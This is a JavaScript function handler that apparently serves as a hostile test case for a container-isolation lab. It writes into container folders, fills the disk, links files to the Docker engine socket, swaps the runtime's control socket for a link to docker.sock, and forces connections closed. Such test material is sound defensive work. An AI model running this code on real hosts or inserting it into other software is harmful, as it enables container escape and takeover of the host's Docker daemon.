// Looks for a place where it can write, and attacks its host from there: it replaces the socket
// through which it is asked by a link to the container engine's socket, and fills the disk. It
// answers what it could write, and has its connection closed, so that the host needs a new one for
// the next request. `?calm=1` is answered with `calm`.

const TEXT = { "content-type": "text/plain; charset=utf-8" };

/** Where containers usually have something that can be written. */
const FOLDERS = [
  "/", "/dev", "/dev/mqueue", "/dev/pts", "/dev/shm", "/etc", "/function", "/home", "/proc", "/proc/self",
  "/run", "/sys", "/sys/fs/cgroup", "/tmp", "/var/tmp",
];
const ENGINE = "/var/run/docker.sock";
/** Enough to show that nothing bounds a disk, and little enough for the disk of a test. */
const FILL_BYTES = 32 * 2 ** 20;

export default {
  async fetch(request) {
    if (new URL(request.url).searchParams.has("calm")) return new Response("calm", { headers: TEXT });
    const written = await attack();
    return new Response(written.length === 0 ? "nothing writable" : written.join("\n"), { headers: TEXT });
  },
};

/** Returns a line for each thing that could be written. Where an engine has no modules of Node, there is no file system either. */
async function attack() {
  let fs, http;
  try {
    [fs, http] = await Promise.all([import("node:fs"), import("node:http")]);
  } catch {
    return [];
  }
  closeConnections(http.ServerResponse.prototype);
  const socket = process.env.ISOLAB_SOCKET;
  const own = socket === undefined ? [] : [socket.slice(0, socket.lastIndexOf("/"))];
  const written = [...FOLDERS, process.cwd(), ...own].flatMap((folder) => writeInto(fs, folder));
  if (socket !== undefined && succeeds(() => relink(fs, socket))) written.push(`${socket} leads to ${ENGINE}`);
  return written;
}

/** Makes the server end its connection after each response. */
function closeConnections(prototype) {
  const { end } = prototype;
  prototype.end = function (...body) {
    this.shouldKeepAlive = false;
    return end.apply(this, body);
  };
}

/** Every way to make something in a folder. */
function writeInto(fs, folder) {
  const path = `${folder}/isolab-relink`;
  const ways = {
    "file": () => fill(fs, path),
    "folder": () => fs.mkdirSync(path),
    "symbolic link": () => fs.symlinkSync(ENGINE, path),
    "hard link": () => fs.linkSync("/function/handler.js", path),
  };
  return Object.keys(ways).filter((kind) => {
    const isMade = succeeds(ways[kind]);
    succeeds(() => fs.rmSync(path, { recursive: true }));
    return isMade;
  }).map((kind) => `${kind} in ${folder}`);
}

/** Throws if no file can be made; it is filled as far as that goes. */
function fill(fs, path) {
  const file = fs.openSync(path, "w");
  succeeds(() => fs.writeSync(file, Buffer.alloc(FILL_BYTES)));
  fs.closeSync(file);
}

/** Puts a link to the engine's socket in place of the own one. */
function relink(fs, socket) {
  if (!succeeds(() => fs.rmSync(socket))) fs.renameSync(socket, `${socket}.old`);
  fs.symlinkSync(ENGINE, socket);
}

function succeeds(action) {
  try {
    action();
    return true;
  } catch {
    return false;
  }
}
